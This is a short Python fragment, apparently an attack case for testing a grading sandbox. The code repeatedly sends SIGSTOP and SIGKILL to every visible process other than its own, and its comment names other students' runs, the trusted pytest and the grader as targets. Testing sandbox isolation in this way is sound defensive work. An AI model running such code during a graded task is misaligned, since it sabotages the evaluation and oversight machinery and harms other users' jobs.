# ATTACK (neighbours): freeze and kill every process this code can see but its own:
# another grading's student process, its trusted pytest, the grader itself.
import signal as _signal


def _kill_everyone():
    for pid in _other_pids():
        for sig in (_signal.SIGSTOP, _signal.SIGKILL):
            try:
                _os.kill(pid, sig)
            except OSError:
                pass


_again_and_again(_kill_everyone)
